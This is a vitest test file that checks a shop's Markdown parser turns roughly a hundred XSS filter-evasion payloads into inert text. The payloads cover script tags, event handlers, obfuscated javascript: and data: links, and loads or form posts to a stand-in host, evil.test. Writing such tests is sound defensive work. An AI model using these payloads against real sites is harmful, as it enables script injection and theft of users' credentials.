import { expect, it } from 'vitest';
import { parseText } from './parse-text.ts';

/**
 * By the families of OWASP's XSS Filter Evasion Cheat Sheet, and what Markdown adds to them. `\u0001`
 * and the like are written as escapes.
 */
const attacks: readonly string[] = [
  // Tags, whole, broken and in other cases.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.test/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\n>',
  '</title><script>alert(1)</script>',
  '<script>a=/x/\nalert(a.source)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Handlers.
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>"\\>',
  '<img src= onmouseover="alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>',
  // Frames, objects, forms, styles, meta.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="https://evil.test/x.swf">',
  '<form action="https://evil.test"><input name=password></form>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  // Schemes and their disguises, in links.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<java&#x09;script:alert(1)>)',
  '[x](<java&NewLine;script:alert(1)>)',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#0000058alert(1))',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](< javascript:alert(1)>)',
  '[x](<\u00a0javascript:alert(1)>)',
  '[x](<javascript\u200b:alert(1)>)',
  '[x](javascript://%0aalert(1))',
  '[x](javascript://shop.test/%0Aalert(1))',
  '[x](java\\script:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](livescript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](view-source:javascript:alert(1))',
  '[x](feed:javascript:alert(1))',
  '[x](jar:https://evil.test/x!/y)',
  '[x](https://good.test@evil.test)',
  '[x](/..//evil.test)',
  '[x](/a/.././/evil.test)',
  '[x](\\\\evil.test)',
  '[x](/\\evil.test)',
  '[x](///evil.test)',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,alert(1)>',
  '<vbscript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x]\n\n[x]: <javascript:alert(1)> "title"',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  '[<img src=x onerror=alert(1)>](https://a.test)',
  '[x](https://a.test "onclick=alert(1)")',
  '[x](https://a.test" onmouseover="alert(1))',
  '[x](https://a.test/"><script>alert(1)</script>)',
  "[x](https://a.test/'onerror='alert(1))",
  // Pictures.
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](/pictures/mug.svg)',
  '![<script>alert(1)</script>](/pictures/mug.svg "<script>alert(1)</script>")',
  '![x](https://evil.test/pixel.gif)',
  '![x](/uploads/abcdefghijklmnopqrstuv-1.webp"onload="alert(1))',
  // What only Markdown has.
  '```<script>\nalert(1)\n```',
  '```js onload=alert(1)\nalert(1)\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '# __proto__',
  '# constructor',
  '[x](#__proto__)',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '::product[<script>alert(1)</script>]',
  '::product["onload=alert(1)]',
  '::product[../../api]{onclick=alert(1)}',
  ':::script\nalert(1)\n:::',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<a href="javas\u0000cript:alert(1)">x</a>'.replace('\u0000', ''),
  '\u202e<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
];

it.each(attacks)('%j can be nothing but text', (markdown) => {
  expectHarmless(parseText(markdown).blocks);
  expectHarmless(parseText(`> ${markdown.replaceAll('\n', '\n> ')}\n\n- ${markdown}`).blocks);
});

it('tries several dozen of them', () => {
  expect(new Set(attacks).size).toBeGreaterThan(90);
});

/** Which fields each node may have: a tree of anything else would be a door. */
const fields: Record<string, readonly string[]> = {
  paragraph: ['children'],
  heading: ['level', 'id', 'children'],
  list: ['start', 'items'],
  quote: ['children'],
  code: ['text'],
  rule: [],
  table: ['columns', 'head', 'rows'],
  picture: ['own', 'address', 'alt', 'caption'],
  product: ['slug'],
  text: ['text'],
  emphasis: ['children'],
  strong: ['children'],
  deleted: ['children'],
  break: [],
  link: ['link', 'children'],
};

/** Text may say anything, as it is drawn as text; all else is of a closed list, and addresses are safe. */
function expectHarmless(value: unknown): void {
  if (Array.isArray(value)) return value.forEach(expectHarmless);
  if (typeof value !== 'object' || value === null) return;
  const node = value as Record<string, unknown> & { type: string };
  expect(Object.keys(fields)).toContain(node.type);
  expect(Object.keys(node).toSorted()).toEqual(['type', ...(fields[node.type] ?? [])].toSorted());
  if (node.type === 'heading') expect(node['id']).toMatch(/^s-[a-z0-9-]+$/);
  if (node.type === 'link') expectSafeLink(node['link'] as Record<string, string>);
  if (node.type === 'picture') {
    expect(node['address']).toMatch(
      /^(?:\/uploads\/[\w-]{22}(?:-\d+)?\.webp|\/pictures\/[a-z0-9-]+\.svg)$/,
    );
  }
  for (const name of ['children', 'items', 'head', 'rows']) expectHarmless(node[name]);
}

function expectSafeLink(link: Record<string, string>): void {
  if (link['to'] === 'heading') return expect(link['id']).toMatch(/^s-[a-z0-9-]+$/);
  // As a browser on a page of the shop would follow it.
  const page = 'https://shop.test/journal/post';
  const url = new URL(link['path'] ?? link['url'] ?? '', page);
  if (link['to'] === 'shop') return expect(url.origin).toBe('https://shop.test');
  expect(['https:', 'http:', 'mailto:']).toContain(url.protocol);
  expect(url.username + url.password).toBe('');
  // Read again by itself, it is the same: nothing depends on who reads it.
  expect(url.href).toBe(link['url']);
}
